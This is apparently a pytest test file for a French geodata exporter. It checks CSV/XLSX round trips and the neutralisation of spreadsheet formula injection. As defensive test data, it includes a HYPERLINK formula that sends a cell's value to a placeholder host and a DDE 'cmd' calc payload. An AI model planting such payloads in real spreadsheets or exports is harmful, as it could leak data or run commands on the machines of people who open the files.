"""Exports of canonical tables: round trips, formula neutralisation, numbers kept numbers."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from influ_geo import exporters, importers, store

DATA = Path(__file__).resolve().parent / "data"
DANGEROUS = ['=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")', "@SUM(1)", "+33 6 12",
             "-2 %, vraiment ?", "\tTabulation", "\rRetour"]


def _events_with_formulas() -> pd.DataFrame:
    n = len(DANGEROUS)
    return pd.DataFrame({
        "source": "fichier", "source_id": [f"ev-{i}" for i in range(n)], "titre": DANGEROUS,
        "date_debut": pd.date_range("2025-03-17 09:00", periods=n, freq="D"),
        "lieu": ["Brest"] * n, "code_insee": ["29019"] * n, "code_departement": "29",
        "lon": [-3.5] * n, "lat": [48.4] * n, "geo_score": [-0.25] * n,
    })


@pytest.fixture
def events_store(store_engine):
    store.import_frame(store_engine, "events", _events_with_formulas(), source="fichier",
                       checksum="formules")
    return store_engine


@pytest.mark.parametrize("value", DANGEROUS)
def test_neutralize_prefixes_formula_starts(value):
    assert exporters.neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["Forum de l'emploi", "", "2A004", "'déjà", None, -3.5, 12])
def test_neutralize_leaves_the_rest(value):
    assert exporters.neutralize(value) == value


def test_csv_round_trip_keeps_values_codes_and_numbers(store_engine, tmp_path):
    importers.import_file(DATA / "events/openagenda_events.v2.json", "events", engine=store_engine)
    path = tmp_path / "events.csv"
    assert exporters.export_table(store_engine, "events", path) == 7
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read UTF-8
    stored = store.read_table(store_engine, "events")
    back = pd.read_csv(path, encoding="utf-8-sig", dtype={c: str for c in (
        "source_id", "code_insee", "code_postal", "code_departement", "code_region",
        "siren_epci", "id_ti")})
    assert list(back.columns) == list(stored.columns)
    for name in ("source_id", "titre", "code_insee", "code_postal", "code_departement",
                 "siren_epci", "geo_precision"):
        assert back[name].fillna("").tolist() == stored[name].fillna("").tolist(), name
    assert back["code_insee"].str.startswith("2A").any()  # Corsican code intact
    pd.testing.assert_series_equal(back["lon"], stored["lon"], check_dtype=False)
    assert (pd.to_datetime(back["date_debut"]) == stored["date_debut"]).all()


def test_xlsx_round_trip(store_engine, tmp_path):
    importers.import_file(DATA / "actions/actions.csv", "actions", engine=store_engine)
    path = tmp_path / "actions.xlsx"
    assert exporters.export_table(store_engine, "actions", path) == 11
    stored = store.read_table(store_engine, "actions")
    back = pd.read_excel(path, dtype={"code_insee": str, "code_departement": str,
                                      "code_region": str})
    assert back["titre"].tolist() == stored["titre"].tolist()
    assert back["code_insee"].fillna("").tolist() == stored["code_insee"].fillna("").tolist()
    assert back["impressions"].fillna(-1).astype(int).tolist() == \
        stored["impressions"].fillna(-1).astype(int).tolist()


def test_csv_neutralises_text_but_not_numbers(events_store, tmp_path):
    path = tmp_path / "events.csv"
    exporters.export_table(events_store, "events", path)
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["titre"].tolist() == ["'" + t for t in DANGEROUS]
    assert back["lon"].dtype == "float64" and (back["lon"] == -3.5).all()
    assert (back["geo_score"] == -0.25).all()


def test_xlsx_cells_are_inert_text_and_numbers_stay_numeric(events_store, tmp_path):
    path = tmp_path / "events.xlsx"
    exporters.export_table(events_store, "events", path)
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    titles = [row[header.index("titre")] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in titles] == ["s"] * len(DANGEROUS)  # never "f" (formula)
    # XML reads a lone carriage return back as a line feed
    assert [c.value for c in titles] == ["'" + t.replace("\r", "\n") for t in DANGEROUS]
    lons = [row[header.index("lon")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value == -3.5 for c in lons)


def test_negative_reach_figures_stay_numbers(store_engine, tmp_path):
    actions = pd.DataFrame({"source": "fichier", "date": pd.to_datetime(["2025-03-18"]),
                            "membre": ["=cmd|' /C calc'!A0"], "canal": "linkedin",
                            "theme": "territoires", "impressions": pd.array([-3], "Int64"),
                            "lon": [-3.5], "lat": [47.7]})
    store.import_frame(store_engine, "actions", actions, source="fichier", checksum="neg")
    path = tmp_path / "actions.xlsx"
    exporters.export_table(store_engine, "actions", path)
    sheet = openpyxl.load_workbook(path).active
    row = {c.value: v for c, v in zip(sheet[1], sheet[2], strict=True)}
    assert row["membre"].value == "'=cmd|' /C calc'!A0" and row["membre"].data_type == "s"
    assert (row["impressions"].value, row["impressions"].data_type) == (-3, "n")
    assert (row["lon"].value, row["lon"].data_type) == (-3.5, "n")


def test_control_characters_do_not_break_the_workbook(tmp_path):
    frame = pd.DataFrame({"titre": ["Forum\x0bde\x00l'industrie"], "lon": [1.0]})
    exporters.write_frame(frame, tmp_path / "x.xlsx")
    assert openpyxl.load_workbook(tmp_path / "x.xlsx").active["A2"].value == \
        "Forumdel'industrie"


def test_unknown_kind_and_extension_are_refused_in_french(store_engine, tmp_path):
    with pytest.raises(exporters.ExportError, match="type de données inconnu"):
        exporters.export_table(store_engine, "usines", tmp_path / "x.csv")
    with pytest.raises(exporters.ExportError, match="extension non prise en charge"):
        exporters.export_table(store_engine, "events", tmp_path / "x.xls")


def test_import_log_and_kind_synonyms(store_engine, tmp_path):
    importers.import_file(DATA / "ti/liste-ti-com2023.csv", "territoires-industrie",
                          engine=store_engine)
    assert exporters.export_table(store_engine, "territoires-industrie",
                                  tmp_path / "ti.csv") == 11
    assert exporters.export_table(store_engine, "imports", tmp_path / "journal.csv") == 1
